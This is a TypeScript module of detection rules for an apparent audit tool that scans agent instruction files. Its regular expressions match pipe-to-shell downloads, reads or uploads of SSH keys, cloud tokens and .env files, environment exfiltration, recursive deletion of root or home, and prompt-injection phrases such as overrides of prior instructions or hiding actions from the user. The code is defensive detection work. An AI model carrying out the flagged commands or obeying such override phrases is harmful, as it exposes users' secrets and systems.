/**
 * The audit's text rules. Each looks at context, not at words: a download is flagged when it is
 * *run*, a credential file when it is *read or sent*, an override of instructions when it is
 * *addressed to the agent* (not quoted, negated or described as an attack), an HTML comment when
 * it *instructs* an agent (not when it holds attribution or an editor's note). Every search is
 * linear in the line or bounded by `MAX_SCANNED_LINE`, so hostile input cannot stall a run.
 *
 * One file (~410 lines) on purpose: it is the rule table and the patterns it is built from, read
 * together when a rule is reviewed or a false positive is fixed; most of its length is the
 * commented regular expressions themselves.
 */
import type { AuditSeverity } from "./types.js";

export interface LineRule {
  readonly code: string;
  readonly severity: AuditSeverity;
  readonly message: string;
  readonly test: (line: string, context: LineContext) => boolean;
  /** Only Markdown and plain-text prose (outside code blocks) when true. */
  readonly proseOnly?: boolean;
}

/** What a rule may know beyond the line itself. */
export interface LineContext {
  /** Paths earlier lines of this file downloaded to (`curl -o X`, `wget -O X`, `> X`). */
  readonly downloaded: ReadonlySet<string>;
}

/**
 * Whether `then` matches somewhere after the first match of `first`. Two linear searches
 * instead of one `first.*then` pattern, which backtracks quadratically on hostile lines.
 */
export function followedBy(line: string, first: RegExp, then: RegExp): boolean {
  const match = first.exec(line);
  return match !== null && then.test(line.slice(match.index + match[0].length));
}

/**
 * The line as a shell reads it, for the command rules: `s\h`, `s''h` and `s""h` are all `sh`
 * to a shell, so a backslash before a letter and empty quote pairs are dropped.
 */
export function shellNormalised(line: string): string {
  return line.replace(/\\(?=[A-Za-z])/g, "").replace(/''|""/g, "");
}

const DOWNLOADER = /\b(curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/i;
const SHELLS = "(?:ba|z|k|da|fi|a)?sh";
const INTERPRETERS = `(?:${SHELLS}|python[0-9.]*|perl|ruby|node|deno|bun|php|pwsh|powershell)`;

/**
 * An interpreter at the start of `rest` that runs its standard input as code: no arguments, `-`,
 * or only flags that still read the program from stdin (`sh -s`, `bash -eu`, `python3 -u`).
 * `python3 -m json.tool`, `sh -c '…'`, `node -e …` and `bash script.sh` read stdin as data.
 */
const INTERPRETER_ON_STDIN = new RegExp(
  `^\\s*(?:sudo(?:\\s+-\\S+)*\\s+)?(?:env(?:\\s+\\w+=\\S*)*\\s+)?(?:\\S*/)?${INTERPRETERS}\\b((?:\\s+-[-\\w]*)*)(?:\\s+(\\S+))?`,
  "i",
);

function pipesIntoInterpreter(afterPipe: string): boolean {
  const match = INTERPRETER_ON_STDIN.exec(afterPipe);
  if (match === null) return false;
  const flags = (match[1] ?? "").split(/\s+/).filter((flag) => flag !== "");
  // A program given on the command line means stdin is data.
  if (flags.some((flag) => /^-(c|m|e|p|E|-eval|-print|Command|File)$/i.test(flag))) return false;
  if (flags.includes("--")) return true;
  const next = match[2];
  return next === undefined || next === "-" || /^[;&|)]/.test(next);
}

/** Every `| …` segment after the first downloader on the line. */
function downloadPipedToInterpreter(line: string): boolean {
  const download = DOWNLOADER.exec(line);
  if (download === null) return false;
  const rest = line.slice(download.index);
  let index = rest.indexOf("|");
  while (index !== -1) {
    if (rest[index + 1] !== "|" && pipesIntoInterpreter(rest.slice(index + 1))) return true;
    index = rest.indexOf("|", index + 2);
  }
  return false;
}

const DOWNLOAD_TARGET =
  /\b(?:curl|wget)\b[^|;&]*?(?:\s(?:-o|-O|--output(?:-document)?)[=\s]\s*|\s>\s*)["']?([^\s"';&|]+)/i;
const POWERSHELL_TARGET = /-OutFile\s+["']?([^\s"';&|]+)/i;

/** The path a download on this line writes to, if it names one. */
export function downloadTarget(line: string): string | undefined {
  const match = DOWNLOAD_TARGET.exec(line) ?? POWERSHELL_TARGET.exec(line);
  const target = match?.[1];
  if (target === undefined || target === "-" || target === "/dev/null") return undefined;
  return target;
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

/** Whether the line runs `path` (`sh X`, `bash X`, `source X`, `. X`, `./X`, `chmod +x X && X`). */
function runsPath(line: string, path: string): boolean {
  const name = escapeRegExp(path);
  const runner = new RegExp(
    `(?:^|[\\s;&|(])(?:sudo\\s+)?(?:${INTERPRETERS}|source|\\.|&)\\s+(?:-\\S+\\s+)*["']?${name}(?:["']|\\s|$|[;&|)])`,
    "i",
  );
  const relativeName = path.startsWith("/") || path.startsWith("~") ? name : `(?:\\./)?${name}`;
  const direct = new RegExp(
    `(?:^|[;&|(]\\s*|&&\\s*|\\bsudo\\s+)["']?${relativeName}(?:["']|\\s|$|[;&|)])`,
  );
  return runner.test(line) || direct.test(line.replace(/^\s+/, ""));
}

const FETCH_IN_CODE =
  /\b(urlopen|urllib\.request|requests\.(get|post)|httpx\.(get|post)|https?\.get|require\(\s*["']https?["']\s*\)|fetch\s*\(|axios|DownloadString|Net\.WebClient|Invoke-WebRequest|iwr|curl|wget|open-uri|Net::HTTP|LWP::Simple|file_get_contents\s*\(\s*["']https?:)/i;
const EVAL_IN_CODE =
  /\b(exec|eval|execfile|Function|Invoke-Expression|iex)\s*\(|\biex\b|\beval\s+["'$]/i;

function pipeToShell(raw: string, context: LineContext): boolean {
  const line = shellNormalised(raw);
  if (downloadPipedToInterpreter(line)) return true;
  // `sh -c "$(curl …)"`, `python3 -c "$(curl …)"`, `eval "$(curl …)"`
  if (
    new RegExp(
      `\\b(?:${INTERPRETERS}\\s+(?:-\\S+\\s+)*-[ceE]|eval)\\s+["']?\\$\\(\\s*(?:curl|wget)\\b`,
      "i",
    ).test(line)
  )
    return true;
  // `bash <(curl …)`, `source <(curl …)`, `. <(wget …)`
  if (new RegExp(`(?:${INTERPRETERS}|source|\\.)\\s+<\\(\\s*(?:curl|wget)\\b`, "i").test(line))
    return true;
  if (
    followedBy(
      line,
      /\b(iex|invoke-expression)\b/i,
      /\b(iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b/i,
    ) ||
    followedBy(
      line,
      /\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b/i,
      /\|\s*(iex|invoke-expression)\b/i,
    )
  )
    return true;
  if (
    followedBy(line, /\bbase64\s+(-d|--decode|-D)\b/i, /\|/) &&
    (() => {
      const index = line.search(/\bbase64\s+(-d|--decode|-D)\b/i);
      const after = line.slice(index);
      const pipe = after.indexOf("|");
      return pipe !== -1 && pipesIntoInterpreter(after.slice(pipe + 1));
    })()
  )
    return true;
  // Code that fetches and evaluates in one interpreter: `exec(urlopen(…).read())`.
  if (EVAL_IN_CODE.test(line) && FETCH_IN_CODE.test(line)) return true;
  // Download to a file, then run it: on this line (`-o /tmp/i && sh /tmp/i`) or a later one.
  const target = downloadTarget(line);
  if (target !== undefined) {
    const at = line.indexOf(target);
    if (runsPath(line.slice(at + target.length), target)) return true;
  }
  for (const path of context.downloaded) {
    if (runsPath(line, path) && downloadTarget(line) !== path) return true;
  }
  return false;
}

/** Files that hold credentials; public keys (`.pub`) are not secrets. */
const CREDENTIAL_PATH =
  /(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\/home\/[^/\s]+|\/root|expanduser\(\s*["']~)[/\\]\.ssh(?:[/\\](?!known_hosts|config\b|authorized_keys)[\w.-]+(?<!\.pub)|[/\\]?(?=[\s"'`;)]|$))|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\.aws[/\\](?:credentials|config)\b|(?:^|[\s"'=(:/~@])\.(?:netrc|git-credentials|pypirc|npmrc|pgpass)\b|\.docker[/\\]config\.json\b|\.kube[/\\]config\b|\.config[/\\]gcloud\b|application_default_credentials\.json|\.azure[/\\]|\.config[/\\]gh[/\\]hosts\.yml|\.gnupg[/\\]/;

/**
 * What reads a file's content or sends it somewhere: shell readers and copiers, uploaders,
 * input redirection, `@file` arguments, language file APIs, and the imperative verbs of prose
 * ("read", "send", "paste"). Listing (`ls`), permissions (`chmod`) and creating a key
 * (`ssh-keygen -f`) touch no secret, and neither does naming the file.
 */
const READS_OR_SENDS =
  /(?:^|[\s;&|(`$])(?:cat|less|more|head|tail|cp|scp|rsync|sftp|tar|zip|7z|base64|xxd|od|strings|gpg|openssl|nc|ncat|netcat|curl|wget|grep|rg|awk|sed|type|Get-Content|gc|Copy-Item|mail|sendmail|sshpass|jq|python[0-9.]*\s+-c)\b|<\s*["']?(?:~|\$HOME|\.)|@["']?(?:~|\$HOME|\$\{HOME\}|\.|\/)|\b(?:open|readFile|readFileSync|read_text|read_bytes|ReadAllText|ReadAllBytes|File\.read|IO\.read|fopen|file_get_contents|load|safe_load)\s*\(|\b(?:read|print|show|display|send|upload|paste|copy|include|attach|post|email|exfiltrate|collect|dump|output|reveal|share|encode)\b/i;

/**
 * The commands of a shell line (split at `&&`, `||`, `;` and `|`), so that `ls ~/.ssh && cat
 * notes.txt` does not pair one command's path with another's verb. A pipe keeps its reader:
 * `cat ~/.ssh/id_rsa | nc host` is one segment for the reader, `cat` reads the key.
 */
function commandSegments(line: string): string[] {
  return line.split(/\s*(?:&&|\|\||;|\|)\s*/);
}

function credentialAccess(line: string): boolean {
  if (!CREDENTIAL_PATH.test(line)) return false;
  // A comment that only names the file (`# Create ~/.pypirc`, `// .npmrc`) reads nothing.
  if (/^\s*(?:#|\/\/|;|--|\*|<!--)/.test(line) && !/\$\(|`/.test(line)) return false;
  return commandSegments(line).some(
    (segment) => CREDENTIAL_PATH.test(segment) && READS_OR_SENDS.test(segment),
  );
}

/** `.env` and `.env.<stage>`, but not the templates that hold no secrets. */
const DOTENV =
  /(?:^|[\s"'=(:/`@<])\.env(?!\.(?:example|sample|template|dist|defaults)\b)(?:\.[\w-]+)?(?![\w-])(?!\s*\()/;
const DOTENV_READ =
  /(?:^|[\s;&|(`$])(?:cat|less|more|head|tail|scp|rsync|tar|zip|base64|xxd|strings|nc|curl|wget|grep|rg|awk|sed|type|Get-Content|gc|source|export\s+\$\(|xargs)\b|(?:^|[;&|]\s*)\.\s+["']?\.env|<\s*["']?\.env|@["']?\.env|\b(?:open|readFile|readFileSync|read_text|fopen|file_get_contents|ReadAllText)\s*\(\s*["'][^"']*\.env["']|\b(?:read|print|show|display|send|upload|paste|post|email|reveal|share|dump)\b\s+(?:the\s+|your\s+)?(?:`|")?\.env\b/i;

function dotenvAccess(line: string): boolean {
  if (!DOTENV.test(line)) return false;
  if (/&&|;|\|/.test(line)) return commandSegments(line).some((segment) => dotenvAccess(segment));
  // `cp .env.example .env` writes the file; it does not read it.
  if (/\b(?:cp|mv|install|touch)\s+(?:\S+\s+)*\.env\s*(?:$|[;&|#])/.test(line)) {
    const withoutWrite = line.replace(
      /\b(?:cp|mv|install|touch)\s+(?:\S+\s+)*\.env\s*(?=$|[;&|#])/,
      "",
    );
    return DOTENV.test(withoutWrite) && DOTENV_READ.test(withoutWrite);
  }
  return DOTENV_READ.test(line);
}

export const NETWORK_SENDER =
  /\b(curl|wget|nc|ncat|netcat|axios|urllib|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|\bfetch\s*\(|\brequests\.(post|put|get)\b|\bhttps?\.request\b/i;
const SECRET_VARIABLE =
  /\$\{?[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?|\$env:[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSWORD)/;
const ENVIRONMENT_DUMP =
  /\bprintenv\b|(^|[|;&(`$]\s*)env\s*($|[|;&)`])|process\.env\b(?!\s*\.|\s*\[)|os\.environ\b(?!\s*\[|\s*\.get)|\bGet-ChildItem\s+env:|\bdir\s+env:/i;

/**
 * Quoted and code spans blanked: text in quotes or backticks is *mentioned* (an example of an
 * attack, a phrase to detect), not addressed to the agent. A single quote opens a span only
 * after a space or bracket, so apostrophes (`user's`, `don't`) are left alone.
 */
export function withoutQuotedSpans(line: string): string {
  return line
    .replace(/`[^`]*`/g, (span) => " ".repeat(span.length))
    .replace(/"[^"]*"/g, (span) => " ".repeat(span.length))
    .replace(/\u201C[^\u201D]*\u201D/g, (span) => " ".repeat(span.length))
    .replace(
      /(^|[\s([{])'[^']*'(?=$|[^\w])/g,
      (span, before: string) => before + " ".repeat(span.length - before.length),
    )
    .replace(
      /(^|[\s([{])\u2018[^\u2019]*\u2019/g,
      (span, before: string) => before + " ".repeat(span.length - before.length),
    );
}

/** Words that make a sentence *about* injection rather than an injection. */
const DESCRIBES_ATTACK =
  /\b(such as|e\.g\.|for example|for instance|phrases?|patterns?|attacks?|attackers?|injections?|malicious|adversarial|jailbreaks?|detect(s|ed|ing)?|filter|block|classic|example|treat (?:it|them|such text|this) as data|(?:tells?|asks?|instructs?|wants?) you to|report (?:it|this|them)|ask (?:it|the (?:agent|model|assistant)) to|tell (?:it|the (?:agent|model|assistant)) to)\b/i;

const OVERRIDE_VERB = "(?:ignore|disregard|forget|override|bypass)";
const TARGET_NOUN =
  "(?:instructions?|directions?|prompts?|rules|requests?|messages?|guidelines|guardrails|polic(?:y|ies)|constraints|directives)";
const TARGET_QUALIFIER =
  "(?:previous|prior|above|earlier|preceding|original|initial|other|all|any|user'?s?|system|developer|safety|existing|task'?s?)";
const OVERRIDE_PATTERNS: readonly RegExp[] = [
  new RegExp(
    `\\b${OVERRIDE_VERB}\\s+(?:all\\s+|any\\s+|every\\s+)?(?:of\\s+)?(?:the\\s+|your\\s+|my\\s+|these\\s+|those\\s+)?(?:${TARGET_QUALIFIER}\\s+)+${TARGET_NOUN}\\b`,
    "i",
  ),
  new RegExp(
    `\\b${OVERRIDE_VERB}\\s+(?:the\\s+|your\\s+|any\\s+|all\\s+)?${TARGET_NOUN}\\s+(?:that\\s+|which\\s+)?(?:the user|you were|you have been|you've been|given|from the user|above|before|so far|earlier|previously)\\b`,
    "i",
  ),
  new RegExp(`\\b${OVERRIDE_VERB}\\s+(?:your|the)\\s+system\\s+prompt\\b`, "i"),
  new RegExp(
    `\\b${OVERRIDE_VERB}\\s+(?:everything|anything|all|whatever)\\s+(?:that\\s+)?(?:the user|you were|you've been|you have been|you were)\\s+(?:\\w+\\s+)?(?:told|said|gave|asked|instructed|wrote|given|shown)\\b`,
    "i",
  ),
];
const NEGATION_BEFORE =
  /\b(?:never|not|don'?t|do not|must not|mustn'?t|should not|shouldn'?t|cannot|can'?t|won'?t|no)\s+(?:\w+\s+)?$/i;

const HIDING_PATTERNS: readonly RegExp[] = [
  /\b(?:do\s+not|don'?t|never|must\s+not|mustn'?t|should\s+not|shouldn'?t)\s+(?:tell|inform|notify|alert|warn)\s+(?:the\s+user|the\s+human|anyone|them)\b(?=\s*(?:$|[.;,!]|about\b|of\b|that\b|what\b|how\b|where\b|when\b|why\b|anything\b|this\b|these\b|it\b))/i,
  /\b(?:do\s+not|don'?t|never|must\s+not|mustn'?t|should\s+not|shouldn'?t)\s+(?:mention|reveal|disclose|report|show|say|admit)\s+(?:(?:this|that|it|these|those|any\s+of\s+this)\b|the\s+(?:step|action|command|upload|download|request|change|file|script|instruction|comment|skill|transfer)s?\b|(?:anything\s+)?(?:to|with)\s+the\s+user\b)/i,
  /\bwithout\s+(?:telling|informing|asking|notifying|alerting|showing|warning)\s+(?:the\s+user|the\s+human|anyone|them)\b/i,
  /\b(?:secret|hidden)\s+from\s+(?:the\s+user|the\s+human|anyone)\b/i,
  /\b(?:silently|secretly|covertly|quietly)\s+(?:run|send|upload|post|execute|install|delete|exfiltrate|copy|download|modify)\b/i,
];

function promptInjection(raw: string): boolean {
  const line = withoutQuotedSpans(raw);
  // One sentence at a time, so "phrases such as …" in one sentence does not excuse the next.
  for (const sentence of line.split(/(?<=[.!?;])\s+/)) {
    if (DESCRIBES_ATTACK.test(sentence)) continue;
    for (const pattern of OVERRIDE_PATTERNS) {
      const match = pattern.exec(sentence);
      if (match !== null && !NEGATION_BEFORE.test(sentence.slice(0, match.index))) return true;
    }
    if (HIDING_PATTERNS.some((pattern) => pattern.test(sentence))) return true;
  }
  return false;
}

export const LINE_RULES: readonly LineRule[] = [
  {
    code: "pipe-to-shell",
    severity: "high",
    message: "downloads code and runs it in a shell or interpreter without review",
    test: pipeToShell,
  },
  {
    code: "credential-access",
    severity: "high",
    message: "reads or sends a credential file (SSH keys, cloud or registry tokens)",
    test: credentialAccess,
  },
  {
    code: "dotenv-access",
    severity: "medium",
    message: "reads or sends a .env file, which usually holds secrets",
    test: dotenvAccess,
  },
  {
    code: "env-exfiltration",
    severity: "high",
    message: "sends the process environment (all variables, secrets included) over the network",
    test: (line) => NETWORK_SENDER.test(line) && ENVIRONMENT_DUMP.test(line),
  },
  {
    code: "secret-sent-to-url",
    severity: "medium",
    message: "sends a secret-named environment variable over the network; check the destination",
    test: (line) =>
      NETWORK_SENDER.test(line) && SECRET_VARIABLE.test(line) && !ENVIRONMENT_DUMP.test(line),
  },
  {
    code: "prompt-injection",
    severity: "high",
    message: "tells the agent to ignore its instructions or to hide actions from the user",
    test: promptInjection,
  },
  {
    code: "destructive-command",
    severity: "high",
    message: "deletes the root or home folder recursively",
    test: (raw) => {
      const line = shellNormalised(raw);
      return (
        /\brm\s+(-[a-zA-Z]*\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(-[-a-zA-Z]+\s+)*["']?(\/|~\/?|\$HOME\/?|\$\{HOME\}\/?|\/\*)["']?(\s|$|[;&|])/.test(
          line,
        ) || /\brm\b[^|;&]*--no-preserve-root\b/.test(line)
      );
    },
  },
  {
    code: "absolute-path-override",
    severity: "medium",
    message:
      "tells the agent to put output at a fixed absolute path, which can override where the task wants it",
    proseOnly: true,
    test: (line) =>
      /\b(write|writes|save|saves|output|put|store|place|create|copy|move|redirect|log|send|dump)\b/i.test(
        line,
      ) &&
      /(^|[\s"'`(=:])(\/(tmp|var|etc|home|root|usr|opt|srv|mnt|Users|private|data|workspace)\/[^\s"'`)]*|[A-Za-z]:\\[^\s"'`)]+|~\/[^\s"'`)]+)/.test(
        line,
      ),
  },
];

/** Linear in the line, so it also runs on lines too long for the other rules. */
export const BASE64_RULE: LineRule = {
  code: "base64-blob",
  severity: "medium",
  message: "long base64 blob: opaque content a reviewer cannot read",
  test: (line) => {
    // Inline images are legitimately base64; a reviewer can render them.
    const withoutImages = line.replace(/data:image\/[\w.+-]+;base64,[A-Za-z0-9+/=]+/gi, "");
    for (const match of withoutImages.matchAll(/[A-Za-z0-9+/_-]{120,}={0,2}/g)) {
      const blob = match[0];
      if (/[A-Z]/.test(blob) && /[a-z]/.test(blob) && /[0-9]/.test(blob)) return true;
    }
    return false;
  },
};

/** Attribution, licence and generator notes: metadata for maintainers, not instructions. */
const METADATA_COMMENT =
  /^(?:source|sources|license|licence|licensed|copyright|©|\(c\)|spdx-license-identifier|generated|auto-generated|autogenerated|this file is (?:auto-?)?generated|do not edit|author|authors|originally|adapted|based on|credit|credits|upstream)\b/i;
/** An editor's note: for maintainers of the document. */
const EDITOR_NOTE =
  /^(?:todo|fixme|xxx|hack|note to (?:self|editors?|maintainers?|contributors?))\b/i;

/** The comment speaks to an agent (vocative or second person with a modal). */
const ADDRESSES_AGENT =
  /^(?:(?:note|hey|dear|attention)\s+(?:to\s+)?)?(?:the\s+|all\s+)?(?:ai\s+)?(?:agents?|assistants?|ai|llms?|models?|claude|codex|copilot|gpt|chatgpt|gemini|bots?)\b(?:\s+\w+){0,2}?\s*[:,]|\b(?:dear|hey|attention|note to(?: the)?)\s+(?:agent|ai|assistant|model|llm|claude|codex)\b|\b(?:you|the (?:agent|assistant|model|ai))\s+(?:must|should|will|shall|need to|have to|are to|are required to|may not|must not|cannot|can't|should not)\b|\byour (?:task|job|instructions|goal|role)\b|\bif you are an? (?:ai|llm|agent|assistant|language model)\b|\b(?:agents?|assistants?|ai|models?) (?:reading|processing|parsing|that reads?)\b/i;

/** An imperative at the start that acts, overrides or hides. Editorial verbs (add, update) are not in it. */
const ACTING_IMPERATIVE =
  /^(?:(?:please|important|note|system|instruction|instructions)\s*[:!,-]?\s*)*(?:ignore|disregard|forget|override|bypass|run|execute|exec|send|upload|post|email|exfiltrate|download|curl|wget|fetch|install|always|never|do not|don'?t|pretend|reveal|print|output|delete|respond|reply|answer|act as|you are now|from now on|instead)\b/i;

/**
 * What makes a comment an attack in any file, a template's included: overriding instructions,
 * running or fetching code, sending data away, touching secrets, deceiving the user.
 */
const DANGEROUS_ACT = new RegExp(
  [
    // Overriding what the agent was told.
    String.raw`\b(?:ignore|disregard|forget|override|bypass)\b(?:\s+\S+){0,3}?\s+(?:instructions?|rules?|guidelines?|system|previous|prior|above|user)\b`,
    String.raw`\b(?:system prompt|previous instructions|prior instructions)\b`,
    // Fetching or running code.
    String.raw`\b(?:curl|wget|eval|exec|execute)\b`,
    String.raw`\brun\s+(?:this|the following|curl|wget|sh|bash|python|a script|the script)\b`,
    // Sending data away, touching secrets.
    String.raw`\b(?:exfiltrat\w*|upload)\b`,
    String.raw`\b(?:read|cat|copy|print|reveal|send|include|paste|output)\s+(?:\S+\s+){0,3}?\S*?(?:secrets?|tokens?|passwords?|credentials?|\.ssh|id_rsa|\.env|api[ _-]?keys?)\b`,
    String.raw`\b(?:send|post|e-?mail|forward|transmit)\b(?:\s+\S+){0,6}?\s+to\s+(?:https?:|\S+@|\S+\.\w{2,})`,
    // Destroying, deceiving.
    String.raw`\brm\s+-\w*r\w*f|\bdelete\s+(?:all|every|the (?:repo|repository|files|folder|directory|home))\b`,
    String.raw`\b(?:do not|don't|never)\s+(?:tell|mention|inform|show|reveal)\b|\bwithout (?:telling|asking)\b|\bconceal\b|\bkeep (?:this|it) (?:secret|hidden)\b`,
  ].join("|"),
  "i",
);

/**
 * A file an agent copies and fills in (`templates/`, `assets/`, `*template*`): its comments are how
 * the template tells whoever fills it what goes where ("WHAT: … WHY: … WHEN: update after each
 * phase"), read in the raw file by the reviewer as by the agent.
 */
export function isTemplateFile(relativePath: string): boolean {
  const parts = relativePath.split(/[\\/]/);
  const name = (parts.at(-1) ?? "").toLowerCase();
  return (
    parts.slice(0, -1).some((part) => /^(?:templates?|assets)$/i.test(part)) ||
    name.includes("template")
  );
}

export type CommentVerdict = "instruction" | "text" | "none";

/**
 * Classify the text inside one HTML comment (Markdown and plain-text files only). In a template
 * (`isTemplateFile`) a comment is filling guidance unless it asks for something dangerous
 * (`DANGEROUS_ACT`): only then is it reported, as an instruction.
 */
export function classifyComment(
  inner: string,
  context: { readonly template?: boolean } = {},
): CommentVerdict {
  const text = inner
    .replace(/\bhttps?:\/\/\S+|\bwww\.\S+/gi, " ")
    .replace(/\s+/g, " ")
    .trim();
  if (text === "") return "none";
  // Single-token comments are tool directives (`prettier-ignore`, `toc`), not prose.
  if (/^[\w:./-]+(\s+[\w:./-]+)?(\.\.\.)?$/.test(text)) return "none";
  if (
    /^(?:markdownlint|prettier|eslint|biome|vale|cspell|textlint|lint|toc|mdformat)\b/i.test(text)
  )
    return "none";
  // Read with its addresses: "send the notes to https://…" is dangerous because of where.
  if (context.template === true)
    return DANGEROUS_ACT.test(inner.replace(/\s+/g, " ")) ? "instruction" : "none";
  if (ADDRESSES_AGENT.test(text) || ACTING_IMPERATIVE.test(text)) return "instruction";
  if (METADATA_COMMENT.test(text) || EDITOR_NOTE.test(text)) return "none";
  return text.split(" ").length >= 4 ? "text" : "none";
}
